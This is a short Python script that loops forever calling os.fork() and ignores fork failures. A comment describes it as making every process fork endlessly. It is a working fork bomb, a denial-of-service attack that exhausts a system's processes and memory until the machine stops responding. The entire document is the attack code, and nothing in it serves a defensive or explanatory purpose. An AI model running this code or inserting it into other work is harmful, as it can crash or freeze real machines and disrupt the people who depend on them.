import os

# every process forks forever and keeps trying when forking fails
while True:
    try:
        os.fork()
    except OSError:
        pass
